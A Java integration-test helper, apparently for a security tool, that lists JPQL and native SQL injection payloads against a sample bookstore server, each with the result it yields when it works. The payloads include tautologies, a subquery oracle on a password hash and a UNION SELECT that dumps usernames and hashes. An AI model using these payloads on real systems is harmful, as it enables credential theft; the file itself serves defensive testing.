package io.palisade.it.server;

import static io.palisade.it.server.ServerHttp.q;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

/**
 * The sample's JPA injections (samples/bookstore JpaAttacks) as they run on a real server, through
 * the server's own persistence provider (Hibernate on WildFly, EclipseLink on Payara Micro and Open
 * Liberty), each with the effect it has when it works.
 */
final class ServerJpa {

    static final String CREATE_QUERY = "jpa:jakarta.persistence.EntityManager#createQuery(java.lang.String,java.lang.Class)";
    static final String CREATE_NATIVE_QUERY = "jpa:jakarta.persistence.EntityManager#createNativeQuery(java.lang.String)";

    private ServerJpa() {
    }

    static List<ServerEvasions.Evasion> attacks() {
        return List.of(
                new ServerEvasions.Evasion("JPQL LIKE", http -> http.get("api/jpa/books/search?q=" + q("x%' or b.id > 0 or '' = '")),
                        r -> assertThat(r.body()).contains("Moby-Dick", "The Hobbit")),
                new ServerEvasions.Evasion("JPQL string tautology", http -> http.get("api/jpa/books/by-author?author="
                        + q("x' or '1'='1")), r -> assertThat(r.body()).contains("Dracula", "Ulysses")),
                new ServerEvasions.Evasion("JPQL subquery oracle on a password hash", http -> http.get("api/jpa/books/by-author?author="
                        + q("x' or exists (select u from AppUser u where u.username = 'alice' and u.passwordHash like"
                        + " 'sha256:2bd8%') or 'a' = 'b")), r -> assertThat(r.body()).contains("Emma", "Ulysses")),
                new ServerEvasions.Evasion("JPQL numeric path segment", http -> http.get("api/jpa/books/" + q("1 or 1=1")),
                        r -> assertThat(r.body()).contains("Dracula", "Ulysses")),
                new ServerEvasions.Evasion("native UNION", http -> http.get("api/jpa/books/native?author="
                        + q("x' UNION SELECT id, password_hash, username, 0 FROM users --")),
                        r -> assertThat(r.body()).contains("alice", "sha256:2bd806c9")));
    }
}
